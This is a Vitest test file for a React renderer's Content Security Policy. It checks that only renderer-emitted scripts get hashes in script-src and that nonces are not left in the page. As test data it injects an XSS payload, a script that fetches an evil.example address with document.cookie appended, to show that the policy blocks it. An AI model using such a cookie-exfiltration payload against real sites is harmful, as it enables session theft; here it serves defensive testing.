import { createHash } from "node:crypto";
import { renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { pagePolicy } from "../../server/http/security";
import { renderNonce, takeEmittedScripts } from "./emitted-scripts";

const sourceOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
const scriptSrc = (policy: string) => new Set(/script-src ([^;]*)/.exec(policy)![1]!.split(" "));

/** A page as the renderer writes it, with markup from elsewhere (say, stored content) carrying a script of its own. */
function Page({ nonce, content }: { nonce: string; content: string }) {
  return (
    <html lang="en">
      <body>
        <article dangerouslySetInnerHTML={{ __html: content }} />
        <script nonce={nonce} dangerouslySetInnerHTML={{ __html: "window.__context = {}" }} />
        <script nonce={nonce} type="module" dangerouslySetInnerHTML={{ __html: 'import("/assets/entry.js")' }} />
      </body>
    </html>
  );
}

describe("the scripts a page may run", () => {
  it("are exactly those its renderer emitted: a script that reached the page another way is not allowed", () => {
    const nonce = renderNonce();
    const rendered = renderToString(<Page nonce={nonce} content={'<p>Hello</p><script>fetch("https://evil.example/" + document.cookie)</script>'} />);
    const { html, scriptSources } = takeEmittedScripts(rendered, nonce);
    const policy = pagePolicy(scriptSources, false);
    expect(scriptSrc(policy)).toEqual(new Set(["'self'", sourceOf("window.__context = {}"), sourceOf('import("/assets/entry.js")')]));
    expect(policy).not.toContain(sourceOf('fetch("https://evil.example/" + document.cookie)'));
    expect(html).toContain('<script>fetch("https://evil.example/"'); // still in the page, and the browser will refuse to run it
  });

  it("are not allowed by a copied nonce: the page keeps none, and its policy lists no nonce", () => {
    const nonce = renderNonce();
    const { html, scriptSources } = takeEmittedScripts(renderToString(<Page nonce={nonce} content="" />), nonce);
    expect(html).not.toContain(nonce);
    expect(pagePolicy(scriptSources, false)).not.toMatch(/nonce-/);
    expect(renderNonce()).not.toBe(nonce);
  });
});
